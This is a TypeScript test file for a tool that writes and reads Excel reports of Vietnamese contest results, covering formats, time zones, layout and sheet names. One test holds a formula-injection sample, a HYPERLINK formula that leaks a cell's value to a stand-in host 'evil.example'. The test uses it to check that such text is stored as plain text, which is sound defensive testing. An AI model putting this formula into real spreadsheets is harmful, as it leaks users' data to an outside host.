import { ValueType } from 'exceljs';
import { zipEntry } from './fixtures/zip-entry';
import { EXCEL_EPOCH_MS } from './number-formats';
import { readReport } from './read-report';
import { loadWorkbook, readWorkbook } from './read-workbook';
import { writeReport, type ReportSheet } from './write-report';

const nfd = (text: string) => text.normalize('NFD');

const RESULTS: ReportSheet = {
  name: 'Kết quả vòng 1',
  columns: [
    { header: 'Họ và tên', key: 'name' },
    { header: 'Đơn vị', key: 'unit' },
    { header: 'Điểm', key: 'score', kind: 'decimal' },
    { header: 'Số câu đúng', key: 'correct', kind: 'integer' },
    { header: 'Tỉ lệ đúng', key: 'rate', kind: 'percent' },
    { header: 'Nộp bài lúc (giờ Việt Nam)', key: 'submittedAt', kind: 'datetime' },
    { header: 'Thời gian làm bài', key: 'duration', kind: 'duration' },
  ],
  rows: [
    {
      name: nfd('Nguyễn Thị Hồng Nhung'),
      unit: 'UBND xã Tân Phú',
      score: 18.5,
      correct: 37,
      rate: 0.925,
      submittedAt: new Date('2025-03-15T07:30:05.000Z'),
      duration: 754_321,
    },
    {
      name: 'Trần Văn Đức',
      unit: null,
      // Postgres `numeric` arrives as a string.
      score: '17.25',
      correct: '35',
      rate: 0.8753,
      submittedAt: '2025-03-15T16:59:59.400Z',
      duration: 3_723_004,
    },
    { name: 'Lê Minh Ánh', unit: '', score: null, correct: 'Vắng', rate: null, submittedAt: null, duration: null },
  ],
};

const EXPECTED = [
  {
    'Họ và tên': 'Nguyễn Thị Hồng Nhung',
    'Đơn vị': 'UBND xã Tân Phú',
    Điểm: '18.50',
    'Số câu đúng': '37',
    'Tỉ lệ đúng': '92.5%',
    'Nộp bài lúc (giờ Việt Nam)': '15/03/2025 14:30:05',
    'Thời gian làm bài': '0:12:34.321',
  },
  {
    'Họ và tên': 'Trần Văn Đức',
    'Đơn vị': '',
    Điểm: '17.25',
    'Số câu đúng': '35',
    'Tỉ lệ đúng': '87.5%',
    'Nộp bài lúc (giờ Việt Nam)': '15/03/2025 23:59:59',
    'Thời gian làm bài': '1:02:03.004',
  },
  {
    'Họ và tên': 'Lê Minh Ánh',
    'Đơn vị': '',
    Điểm: '',
    'Số câu đúng': 'Vắng',
    'Tỉ lệ đúng': '',
    'Nộp bài lúc (giờ Việt Nam)': '',
    'Thời gian làm bài': '',
  },
];

async function sheetOf(data: Buffer, name: string) {
  const sheet = (await loadWorkbook(data))?.getWorksheet(name);
  if (!sheet) throw new Error(`no sheet ${name}`);
  return sheet;
}

describe('writeReport → readReport', () => {
  it('round-trips every column kind as the text Excel shows, Vietnamese composed', async () => {
    const data = await writeReport([RESULTS]);
    const rows = await readReport(data, 'Kết quả vòng 1');
    expect(rows).toEqual(EXPECTED);
    expect(Object.keys(rows?.[0] ?? {})[0]).toBe('Họ và tên'.normalize('NFC'));
    expect(rows?.[0]['Họ và tên']).toBe('Nguyễn Thị Hồng Nhung'.normalize('NFC'));
  });

  it('reads the grid of every sheet, header first', async () => {
    const data = await writeReport([RESULTS, { name: 'Trống', columns: [{ header: 'Ghi chú', key: 'note' }], rows: [] }]);
    const sheets = await readWorkbook(data);
    expect(sheets?.map((s) => s.name)).toEqual(['Kết quả vòng 1', 'Trống']);
    expect(sheets?.[0].rows).toEqual([RESULTS.columns.map((c) => c.header), ...EXPECTED.map((row) => Object.values(row))]);
    expect(sheets?.[1].rows).toEqual([['Ghi chú']]);
  });

  it('stores numbers as numbers, with their formats, and empty values as blank cells', async () => {
    const sheet = await sheetOf(await writeReport([RESULTS]), 'Kết quả vòng 1');
    const [score, correct, rate, submittedAt, duration] = ['C2', 'D2', 'E2', 'F2', 'G2'].map((a) => sheet.getCell(a));
    expect([score.value, score.numFmt]).toEqual([18.5, '0.00']);
    expect([sheet.getCell('C3').value, correct.value, correct.numFmt]).toEqual([17.25, 37, '0']);
    expect([rate.value, rate.numFmt]).toEqual([0.925, '0.0%']);
    // A real Excel date (exceljs reads date-formatted numbers as Dates) holding Vietnam's wall clock.
    expect([submittedAt.type, submittedAt.value, submittedAt.numFmt]).toEqual([ValueType.Date, new Date('2025-03-15T14:30:05.000Z'), 'dd/mm/yyyy hh:mm:ss']);
    // A duration is a fraction of a day; exceljs reads it as a Date after Excel's day 0.
    expect((duration.value as Date).getTime() - EXCEL_EPOCH_MS).toBe(754_321);
    expect(duration.numFmt).toBe('[h]:mm:ss.000');
    expect(['B3', 'B4', 'C4', 'E4', 'F4', 'G4'].map((a) => sheet.getCell(a).type)).toEqual(Array(6).fill(ValueType.Null));
    expect(sheet.getCell('D4').value).toBe('Vắng');
  });

  it('writes Vietnam time whatever the server time zone', async () => {
    const original = process.env['TZ'];
    try {
      for (const zone of ['America/Los_Angeles', 'UTC', 'Asia/Ho_Chi_Minh']) {
        process.env['TZ'] = zone;
        const rows = await readReport(await writeReport([RESULTS]), 'Kết quả vòng 1');
        expect(rows?.map((r) => r['Nộp bài lúc (giờ Việt Nam)'])).toEqual(['15/03/2025 14:30:05', '15/03/2025 23:59:59', '']);
      }
    } finally {
      process.env['TZ'] = original;
    }
  });

  it('lays the sheet out for Excel: bold filled frozen header, autofilter, fitted widths, file properties', async () => {
    const data = await writeReport([RESULTS], { title: 'Kết quả hội thi', creator: 'Hội thi CCHC' });
    const workbook = await loadWorkbook(data);
    expect([workbook?.title, workbook?.creator]).toEqual(['Kết quả hội thi', 'Hội thi CCHC']);
    const sheet = await sheetOf(data, 'Kết quả vòng 1');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe('A1:G1');
    const header = sheet.getCell('A1');
    expect(header.font.bold).toBe(true);
    expect(header.fill).toMatchObject({ type: 'pattern', pattern: 'solid' });
    const widths = RESULTS.columns.map((_, i) => sheet.getColumn(i + 1).width ?? 0);
    expect(widths.every((w) => w >= 8 && w <= 60)).toBe(true);
    expect(widths[0]).toBeGreaterThanOrEqual('Nguyễn Thị Hồng Nhung'.length);
    expect(widths[5]).toBeGreaterThanOrEqual('15/03/2025 14:30:05'.length);
  });

  it('honours a given width', async () => {
    const data = await writeReport([{ name: 'A', columns: [{ header: 'Mã', key: 'id', width: 42 }], rows: [{ id: 'x' }] }]);
    expect((await sheetOf(data, 'A')).getColumn(1).width).toBe(42);
  });

  it('puts a title above the header, and still finds the header', async () => {
    const data = await writeReport([{ ...RESULTS, title: nfd('Kết quả vòng 1 — Hội thi cải cách hành chính 2025') }]);
    expect(await readReport(data, 'Kết quả vòng 1')).toEqual(EXPECTED);
    expect(await readReport(data, 'Kết quả vòng 1', ['Điểm', nfd('Họ và tên')])).toEqual(EXPECTED);
    expect(await readReport(data, 'Kết quả vòng 1', ['Không có cột này'])).toBeNull();

    const [grid] = (await readWorkbook(data)) ?? [];
    expect(grid.rows[0][0]).toBe('Kết quả vòng 1 — Hội thi cải cách hành chính 2025');
    expect(grid.rows[1].every((t) => t === '')).toBe(true);
    expect(grid.rows[2]).toEqual(RESULTS.columns.map((c) => c.header));
    const sheet = await sheetOf(data, 'Kết quả vòng 1');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
    expect(sheet.autoFilter).toBe('A3:G3');
  });

  it('finds a one-column header under a title by the frozen pane', async () => {
    const data = await writeReport([{ name: 'Đơn vị', title: 'Danh sách đơn vị', columns: [{ header: 'Tên', key: 'name' }], rows: [{ name: 'Xã A' }, { name: 'Xã B' }] }]);
    expect(await readReport(data, 'Đơn vị')).toEqual([{ Tên: 'Xã A' }, { Tên: 'Xã B' }]);
  });

  it('sanitises sheet names, keeps them unique, and reads them back by the name given', async () => {
    const sheet = (name: string): ReportSheet => ({ name, columns: [{ header: 'Tên', key: 'name' }], rows: [{ name }] });
    const names = ['Vòng 1/2: [chung kết]', 'Người đạt giải theo từng đơn vị cấp huyện', 'Kết quả', 'kết quả', 'History'];
    const data = await writeReport(names.map(sheet));
    expect((await readWorkbook(data))?.map((s) => s.name)).toEqual([
      'Vòng 1-2- (chung kết)',
      'Người đạt giải theo từng đơn vị',
      'Kết quả',
      'kết quả (2)',
      'History (2)',
    ]);
    expect(await readReport(data, 'Vòng 1/2: [chung kết]')).toEqual([{ Tên: 'Vòng 1/2: [chung kết]' }]);
    expect(await readReport(data, 'Người đạt giải theo từng đơn vị cấp huyện')).toEqual([{ Tên: 'Người đạt giải theo từng đơn vị cấp huyện' }]);
    expect(await readReport(data, 'Không có')).toBeNull();
  });

  it('stores text that looks like a formula as text, never as a formula', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")', '+84 912 345 678', '-1+2', '@SUM(A1:A9)', '=1+1'];
    const data = await writeReport([{ name: 'Nhật ký', columns: [{ header: 'Nội dung', key: 'text' }, { header: 'Điểm', key: 'score', kind: 'decimal' }], rows: hostile.map((text) => ({ text, score: text })) }]);

    expect((await readReport(data, 'Nhật ký'))?.map((r) => [r['Nội dung'], r['Điểm']])).toEqual(hostile.map((t) => [t, t]));
    const sheet = await sheetOf(data, 'Nhật ký');
    for (let row = 2; row <= hostile.length + 1; row++) {
      for (const col of [1, 2]) {
        const cell = sheet.getCell(row, col);
        expect([cell.type, cell.formula]).toEqual([ValueType.String, undefined]);
      }
    }
    // What Excel opens: no formula element anywhere in the sheet.
    const xml = zipEntry(data, 'xl/worksheets/sheet1.xml');
    expect(xml).toContain('<sheetData>');
    expect(xml).not.toMatch(/<f[\s>]/);
  });

  it('refuses a workbook without sheets', async () => {
    await expect(writeReport([])).rejects.toThrow();
  });
});
